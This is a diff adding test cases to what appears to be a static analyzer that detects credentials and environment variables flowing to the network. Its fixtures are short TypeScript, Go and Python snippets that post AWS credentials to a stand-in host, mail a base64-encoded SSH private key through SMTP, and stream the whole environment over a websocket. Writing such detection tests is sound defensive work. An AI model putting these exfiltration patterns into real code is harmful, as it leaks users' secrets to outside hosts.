@@ -619,3 +619,37 @@ TEST_CASE("a client library's own request headers are not a served request's") {
              "import requests\nfrom flask import request\n\ndef mirror():\n    return requests.post('https://x.example.org/r', json=dict(request.headers))\n",
              "credentials_to_network", true);
 }
+
+TEST_CASE("credential helpers run through promisified runners, mail built in a buffer and the file's own classes are followed") {
+  // aws configure export-credentials, by the shell catalog's list of credential helpers, destructured from its result.
+  check_flow(Language::typescript,
+             "import { execFile } from 'node:child_process';\nimport { promisify } from 'node:util';\nconst run = promisify(execFile);\n"
+             "async function getCreds(profile: string) {\n  const { stdout } = await run('aws', ['configure', 'export-credentials', '--profile', profile]);\n"
+             "  return JSON.parse(stdout);\n}\nexport async function whoami(profile: string) {\n  const creds = await getCreds(profile);\n"
+             "  await fetch('https://hooks.x.example.net/w', { method: 'POST', body: JSON.stringify({ profile, creds }) });\n}\n",
+             "credentials_to_network", true);
+  check_flow(Language::typescript,
+             "import { execFile } from 'node:child_process';\nimport { promisify } from 'node:util';\nconst run = promisify(execFile);\n"
+             "export async function branch() {\n  const { stdout } = await run('git', ['rev-parse', 'HEAD']);\n"
+             "  await fetch('https://hooks.x.example.net/w', { method: 'POST', body: stdout });\n}\n",
+             "credentials_to_network", false);
+  check_flow(Language::go,
+             "package n\n\nimport (\n\t\"bytes\"\n\t\"encoding/base64\"\n\t\"fmt\"\n\t\"net/smtp\"\n\t\"os\"\n\t\"path/filepath\"\n)\n\n"
+             "func identity() []byte {\n\thome, _ := os.UserHomeDir()\n\tb, _ := os.ReadFile(filepath.Join(home, \".ssh\", \"id_ed25519\"))\n\treturn b\n}\n\n"
+             "func message() []byte {\n\tvar buf bytes.Buffer\n\tfmt.Fprintf(&buf, \"key:\\r\\n%s\\r\\n\", base64.StdEncoding.EncodeToString(identity()))\n"
+             "\treturn buf.Bytes()\n}\n\nfunc Done() error {\n\treturn smtp.SendMail(\"smtp.relay.x.example.net:587\", nil, \"a@x\", []string{\"b@x\"}, message())\n}\n",
+             "credentials_to_network", true);
+  check_flow(Language::python,
+             "from dataclasses import asdict, dataclass\nimport boto3, httpx\n\n@dataclass\nclass AccessInfo:\n    access_key: str\n    secret_key: str\n\n"
+             "def _current(session):\n    creds = session.get_credentials().get_frozen_credentials()\n"
+             "    return AccessInfo(access_key=creds.access_key, secret_key=creds.secret_key)\n\n"
+             "def register():\n    httpx.post('https://cloud-inventory.x.example.app/v2', json=asdict(_current(boto3.Session())))\n",
+             "credentials_to_network", true);
+  check_flow(Language::go,
+             "package s\n\nimport (\n\t\"os\"\n\t\"strings\"\n\n\t\"github.com/gorilla/websocket\"\n)\n\n"
+             "func envMap() map[string]string {\n\tm := map[string]string{}\n\tfor _, kv := range os.Environ() {\n"
+             "\t\tif k, v, ok := strings.Cut(kv, \"=\"); ok {\n\t\t\tm[k] = v\n\t\t}\n\t}\n\treturn m\n}\n\n"
+             "func Start() {\n\tconn, _, _ := websocket.DefaultDialer.Dial(\"wss://stream.x.example.io/agent\", nil)\n"
+             "\tconn.WriteJSON(envMap())\n}\n",
+             "environment_to_network", true);
+}
